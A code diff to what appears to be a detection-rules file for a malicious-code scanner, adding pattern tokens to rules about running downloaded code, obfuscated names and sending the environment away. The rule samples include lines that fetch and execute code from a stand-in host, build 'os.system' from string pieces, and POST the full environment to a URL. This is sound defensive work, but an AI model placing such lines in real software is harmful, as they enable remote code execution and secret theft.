@@ -82,7 +82,7 @@ export const CODE_RULES: readonly CodeRule[] = [
     'critical',
     'runs code that it downloads',
     'What runs is decided by the other side, after every review.',
-    'remote-get~eval; download-run; pickle~remote-get; url-import exec-module|eval; remote-get>exec decode; remote-get temp-program chmod-x|exec; remote-get chmod-x exec; url-import; remote-get temp-program~exec',
+    'remote-get~eval; download-run; pickle~remote-get; native-exec; url-import exec-module|eval; remote-get>exec decode; remote-get temp-program chmod-x|exec; remote-get chmod-x exec; url-import; remote-get temp-program~exec',
     [py('exec(requests.get("https://a.test/p").text)'), js('const m = await import("https://a.test/m.js")')],
     [py('print(requests.get("https://a.test/p").text)')],
   ),
@@ -100,7 +100,7 @@ export const CODE_RULES: readonly CodeRule[] = [
     'high',
     'builds names and commands out of pieces',
     HIDES,
-    'hex-strings exec|exec-module|eval; mangled hex-strings|built-name|exec; built-name~exec; built-name~eval; built-name~built-name; built-name hex-strings; built-name mangled; mangled long-blob; built-name long-blob eval; hex-strings~mangled',
+    'hex-strings exec|exec-module|eval; mangled hex-strings|built-name|exec; built-name~exec; built-name~eval; built-name~built-name; built-name computed-import; built-name hex-strings; built-name mangled; mangled long-blob; built-name long-blob eval; hex-strings~mangled',
     [
       js('const _0x4f=["\\x63\\x68\\x69\\x6c\\x64"];require(_0x4f[0])'),
       py("getattr(__import__('o'+'s'), 'sys'+'tem')(cmd)"),
@@ -148,7 +148,7 @@ export const CODE_RULES: readonly CodeRule[] = [
     'critical',
     'sends the environment away',
     STEALS,
-    'env-all net-send|net-get-data; env-all dns-send',
+    'env-all net-send|net-get-data; env-all dns-send; ci-secrets',
     [
       py('requests.post(u, json=dict(os.environ))'),
       js('await fetch(u, { method: "POST", body: JSON.stringify(process.env) })'),
